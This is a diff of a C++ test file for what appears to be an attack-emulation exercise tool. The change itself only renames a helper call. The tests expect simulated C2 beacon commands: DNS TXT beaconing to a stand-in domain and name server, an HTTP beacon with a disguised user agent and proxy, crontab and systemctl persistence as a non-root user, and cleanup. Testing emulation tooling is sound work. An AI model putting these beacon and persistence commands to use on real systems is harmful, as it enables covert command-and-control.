@@ -2,6 +2,7 @@
 #include "injector/actions/act.h"
 
 #include "scenario-dsl/attack/traces.h"
+#include "scenario-dsl/model/step_names.h"
 #include "scenario-dsl/source/digest.h"
 #include "tests/support/first_light.h"
 #include "tests/support/temp_directory.h"
@@ -213,7 +214,7 @@ TEST_F(EntryActions, ABeaconThatAsksForNamesIsToldWhereTheNameServerIs) {
     EXPECT_EQ(Argv(ran.begin() + 5, ran.end()),
               (Argv{"/usr/lib/enshu/actor", "beacon", "--domain", "news.example", "--name-server",
                     "203.0.113.25:53", "--min-ms", "4000", "--max-ms", "7000", "--key",
-                    "/var/lib/enshu/lent/" + beacon_unit("names")}));
+                    "/var/lib/enshu/lent/" + dsl::unit_of("names")}));
     EXPECT_TRUE(leaves("names", "/var/log/unbound/queries.log", ".news.example. TXT"));
 }
 
@@ -225,7 +226,7 @@ TEST_F(EntryActions, ACrontabLineCallsTheSameBeaconAndIsTakenAwayAgain) {
                     "'http://198.51.100.66/a?b=100\\%25' --min-ms 4000 --max-ms 7000 --agent "
                     "'Mozilla/4.0 (compatible; UpdateAgent 1.3)' --proxy 203.0.113.25:3128 "
                     "--key /var/lib/enshu/lent/" +
-                        beacon_unit("beacon") + " >/dev/null 2>&1");
+                        dsl::unit_of("beacon") + " >/dev/null 2>&1");
     const Argv ran = guest_.ran.back();
     EXPECT_EQ(Argv(ran.begin(), ran.begin() + 2), (Argv{"/usr/bin/setpriv", "--reuid=suzuki"}))
         << "as somebody without root would";
@@ -258,7 +259,7 @@ TEST_F(EntryActions, ABeaconThatPersistsIsStartedAndStopsWithWhatStartsIt) {
     takes_back("beacon");
     ASSERT_EQ(guest_.ran.size(), 4U);
     EXPECT_EQ(guest_.ran[3],
-              (Argv{"/usr/bin/rm", "-f", "--", "/var/lib/enshu/lent/" + beacon_unit("beacon")}));
+              (Argv{"/usr/bin/rm", "-f", "--", "/var/lib/enshu/lent/" + dsl::unit_of("beacon")}));
     EXPECT_EQ(guest_.ran[2][0], "/usr/bin/systemctl")
         << "after the line, or what starts it again would have started it again";
 }
